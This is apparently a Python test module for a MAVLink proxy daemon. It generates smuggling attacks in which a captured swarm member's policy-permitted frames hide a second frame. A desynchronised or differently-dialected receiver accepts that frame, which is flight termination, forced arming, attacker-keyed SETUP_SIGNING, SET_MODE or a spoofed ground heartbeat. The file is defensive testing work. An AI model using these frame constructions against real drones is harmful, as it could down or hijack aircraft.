"""Attacks of a captured member: frames that policy passes, in which a receiver finds one that policy refuses.

The attacker has the keys of one or two members, so its envelopes are genuine. The policy permits each of its frames.
The receiver reads the same bytes with another dialect, or loses synchronisation, and then accepts a hidden frame.
"""

from __future__ import annotations

import importlib
from collections.abc import Callable, Mapping
from functools import cache
from struct import pack
from typing import Final, NamedTuple

from tests.mavlink.parsers.hidden_frames import Carrier, frame, hide
from uavlinkd.mavlink.dialect import COMMANDS, IDS, MESSAGES
from uavlinkd.mavlink.frames import MAVLINK1
from uavlinkd.mavlink.policy.compilation import Policy
from uavlinkd.mavlink.policy.gate import Refusal

MEMBER: Final = 2
OTHER_MEMBER: Final = 3
TABLET: Final = 200
GROUND: Final = 255
VICTIM: Final = 1

_ID: Final = IDS
EVERYTHING: Final[Mapping[str, object]] = {"role": "all", "system_ids": "all"}
CAST: Final[Mapping[str, Mapping[str, object]]] = {
    "member": {"role": "swarm-member", "system_ids": [2]},
    "other member": {"role": "swarm-member", "system_ids": [3]},
    "vehicle": {"role": "vehicle", "system_ids": [2]},
    "observer": {"role": "observer", "system_ids": [200], "allow_in": ["REQUEST_EVENT"]},
    "operator": {
        "system_ids": [255],
        "allow_in": ["heartbeat", "files", "parameters", "signals"],
        "allow_out": ["all"],
    },
    "operator without MAVLink 1": {"role": "operator", "system_ids": [255], "mavlink1": False},
    "private dialect": {"role": "swarm-member", "system_ids": [7], "allow_in": [54321, 150]},
    "everything": EVERYTHING,
}
"""The sources of a client's frames, with the policies that the daemon has for them."""


class MemberAttack(NamedTuple):
    """One attempt."""

    name: str
    members: tuple[Mapping[str, object], ...]
    """The policy of each captured member, as the victim's daemon has it."""
    frames: tuple[tuple[int, bytes], ...]
    """The index of the member, and the frame, in the order of sending."""
    goal: bytes
    """The hidden frame as a receiver accepts it."""


def command_long(command: str, system: int, *params: float, version: int = 2, target: int = VICTIM) -> bytes:
    """COMMAND_LONG to a system's autopilot, without confirmation."""
    seven = (*params, *(0.0,) * (7 - len(params)))
    payload = pack("<7fHBBB", *seven, COMMANDS[f"MAV_CMD_{command}"], target, 1, 0)
    return frame(_ID["COMMAND_LONG"], payload, system, 190, version=version)


def set_mode(system: int, version: int = 2) -> bytes:
    """SET_MODE."""
    return frame(_ID["SET_MODE"], pack("<IBB", 4, VICTIM, 1), system, 190, version=version)


def setup_signing(system: int) -> bytes:
    """SETUP_SIGNING with a key of the attacker."""
    return frame(_ID["SETUP_SIGNING"], pack("<QBB", 1, VICTIM, 1) + b"K" * 32, system, 190)


def ground_heartbeat(version: int = 2) -> bytes:
    """HEARTBEAT of a ground station, which keeps an autopilot's failsafe quiet."""
    return frame(_ID["HEARTBEAT"], pack("<IBBBBB", 0, 6, 8, 0, 4, 3), GROUND, 190, version=version)


def terminate(system: int = GROUND, version: int = 2) -> bytes:
    """The command that ends a flight."""
    return command_long("DO_FLIGHTTERMINATION", system, 1.0, version=version)


GOALS: Final[Mapping[str, Callable[[], bytes]]] = {
    "flight termination": terminate,
    "forced arming": lambda: command_long("COMPONENT_ARM_DISARM", GROUND, 1.0, 21196.0),
    "SETUP_SIGNING": lambda: setup_signing(GROUND),
    "SET_MODE": lambda: set_mode(GROUND),
    "a ground station's HEARTBEAT": ground_heartbeat,
}

# A receiver that rejected a checksum reads these last bytes of a signature as the start of a frame of an unknown
# message, which ends with the next frame's header.
_SHIFTS: Final = bytes((0xFD, 8, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF))


def signed_unknown(
    name: str, policy: Mapping[str, object], system: int, lacking: int, carrier: int, goal: bytes
) -> MemberAttack:
    """A signed frame of a message that the receiver lacks shifts it into the next frame's payload."""
    return _two(name, policy, goal, Carrier(lacking, bytearray(6), system, signature=_signature()), carrier, system)


def checksum_start(
    name: str, policy: Mapping[str, object], system: int, lacking: int, carrier: int, goal: bytes
) -> MemberAttack:
    """The last byte of a checksum that the receiver rejects is a start byte: the next frame's header is lost."""
    first = Carrier(lacking, bytearray(6), system, checksum_ends_in=0xFD)
    return _two(name, policy, goal, first, carrier, system)


def _signature() -> bytearray:
    return bytearray(_SHIFTS.rjust(13, b"\0"))


def _two(
    name: str, policy: Mapping[str, object], goal: bytes, first: Carrier, carrier: int, system: int
) -> MemberAttack:
    second = Carrier(carrier, bytearray(max(20, len(goal))), system)
    frames = hide([first, second], goal, first.size + second.payload_at)
    return MemberAttack(name, (policy,), tuple((0, raw) for raw in frames), goal)


def within(name: str, policy: Mapping[str, object], carrier: Carrier, goal: bytes, at: int = 0) -> MemberAttack:
    """A complete frame inside a payload, for a receiver without synchronisation."""
    raw = hide([carrier], goal, carrier.payload_at + at)
    return MemberAttack(name, (policy,), ((0, raw[0]),), goal)


def legal_lengths(lacking: int) -> MemberAttack:
    """The same as `signed_unknown`, in frames no longer than defined: the hidden one begins in the signature."""
    goal = terminate(version=1)
    first = Carrier(lacking, bytearray(6), TABLET, signature=bytearray(13))
    second = Carrier(_ID["PARAM_REQUEST_READ"], bytearray(20), TABLET)
    frames = hide([first, second], goal, first.size - 13)
    at = first.size - 13
    hidden = b"".join(frames)[at : at + len(goal)]
    return MemberAttack("observer: legal lengths", (CAST["observer"],), tuple((0, raw) for raw in frames), hidden)


def two_members(version: int) -> MemberAttack:
    """The hidden frame begins in one member's frame and ends in the other's."""
    goal = terminate(version=version)
    first = Carrier(_ID["HOME_POSITION"], bytearray(60), MEMBER)
    second = Carrier(_ID["HOME_POSITION"], bytearray(60), OTHER_MEMBER)
    at = first.size - 2 - 17  # its header and its first parameter
    frames = hide([first, second], goal, at)
    hidden = b"".join(frames)[at : at + len(goal)]
    return MemberAttack(
        f"two members, MAVLink {version}",
        (CAST["member"], CAST["other member"]),
        ((0, frames[0]), (1, frames[1])),
        hidden,
    )


def restart_in_mavlink1(lacking: int) -> MemberAttack:
    """A rejected MAVLink 1 frame ends in 0xFD: the C library continues there in MAVLink 1.

    It reads the next frame's start byte as a length, its length as a sequence number, and so on.
    """
    first = Carrier(lacking, bytearray(MESSAGES[lacking][2]), MEMBER, version=1, checksum_ends_in=0xFD)
    # The receiver interprets sequence number and component as system and message.
    second = Carrier(_ID["STATUSTEXT"], bytearray(51), MEMBER, _ID["COMMAND_LONG"], version=1, seq=GROUND)
    third = Carrier(_ID["FILE_TRANSFER_PROTOCOL"], bytearray(254), MEMBER)
    at = first.size - 1
    wanted = bytearray(6 + MAVLINK1 + 2)
    wanted[0], wanted[3], wanted[5] = MAVLINK1, GROUND, _ID["COMMAND_LONG"]
    wanted[6 : 6 + 33] = terminate(version=1)[6:-2]
    frames = hide([first, second, third], bytes(wanted), at)
    hidden = bytes((MAVLINK1,)) + b"".join(frames)[at + 1 : at + len(wanted)]
    return MemberAttack(
        "vehicle: restart in MAVLink 1", (CAST["vehicle"],), tuple((0, raw) for raw in frames), hidden
    )


def read_as_mavlink1() -> MemberAttack:
    """A MAVLink 2 frame that is also a MAVLink 1 frame, for a receiver that continues in MAVLink 1 at its start byte.

    Such a receiver lost bytes of a MAVLink 1 frame and interpreted this start byte as the last byte of that frame.
    """
    carrier = Carrier(_ID["HOME_POSITION"], bytearray(60), MEMBER, _ID["COMMAND_LONG"], compat=GROUND)
    # Length, 0, 255, sequence number, system: the message's number is its sender's system, 2 (SYSTEM_TIME).
    raw = hide([carrier], bytes((MAVLINK1, 60, 0, GROUND, 0, MEMBER)) + bytes(62), 0, MESSAGES[MEMBER][1])[0]
    hidden = bytes((MAVLINK1,)) + raw[1:68]
    lost = heartbeat_of(MEMBER)
    return MemberAttack(
        "swarm-member: read as MAVLink 1 after a loss", (CAST["member"],), ((0, lost), (0, raw)), hidden
    )


def heartbeat_of(system: int) -> bytes:
    """HEARTBEAT of a vehicle in MAVLink 1."""
    return frame(_ID["HEARTBEAT"], pack("<IBBBBB", 0, 2, 3, 0, 4, 3), system, version=1)


@cache
def lacking(dialect: str, member: str, *, numbered: bool = False) -> int:
    """A message that this member may send and the dialect lacks; with ``numbered`` one that MAVLink 1 can number."""
    known = importlib.import_module(f"pymavlink.dialects.v20.{dialect}").mavlink_map
    gate = Policy(CAST[member]).incoming
    return next(
        msgid
        for msgid in sorted(MESSAGES, reverse=True)
        if msgid not in known
        and not isinstance(gate.decide(msgid, is_known=True), Refusal)
        and not (numbered and msgid > 0xFF)
    )


@cache
def attacks_on(dialect: str) -> tuple[MemberAttack, ...]:
    """Every attack against receivers of this dialect."""
    observer, vehicle, operator = (lacking(dialect, name) for name in ("observer", "vehicle", "operator"))
    read, file = _ID["PARAM_REQUEST_READ"], _ID["FILE_TRANSFER_PROTOCOL"]
    arm_station = command_long("COMPONENT_ARM_DISARM", MEMBER, 1.0, target=GROUND)
    inside = (
        ("SET_MODE in MAVLink 1", "ATTITUDE", 28, set_mode(GROUND, version=1), 0),
        ("COMMAND_LONG in MAVLink 1", "HOME_POSITION", 60, terminate(version=1), 0),
        ("command after a loss", "HOME_POSITION", 60, terminate(), 0),
        ("command after a loss, ATTITUDE of 255 bytes", "ATTITUDE", 255, terminate(), 200),
        ("a ground station's HEARTBEAT after a loss", "HOME_POSITION", 60, ground_heartbeat(), 38),
    )
    return (
        *(
            make(f"observer: {goal}, {how}", CAST["observer"], TABLET, observer, read, GOALS[goal]())
            for how, make in (("signed", signed_unknown), ("checksum", checksum_start))
            for goal in GOALS
        ),
        legal_lengths(observer),
        signed_unknown("operator: a command", CAST["operator"], GROUND, operator, file, terminate()),
        signed_unknown("vehicle: command to the ground station", CAST["vehicle"], MEMBER, vehicle, file, arm_station),
        signed_unknown(
            "no policy: SETUP_SIGNING", CAST["everything"], GROUND - 1, operator, file, setup_signing(GROUND)
        ),
        restart_in_mavlink1(lacking(dialect, "vehicle", numbered=True)),
        *(
            within(f"swarm-member: {what}", CAST["member"], Carrier(_ID[name], bytearray(size), MEMBER), goal, at)
            for what, name, size, goal, at in inside
        ),
        read_as_mavlink1(),
        two_members(version=1),
        two_members(version=2),
    )
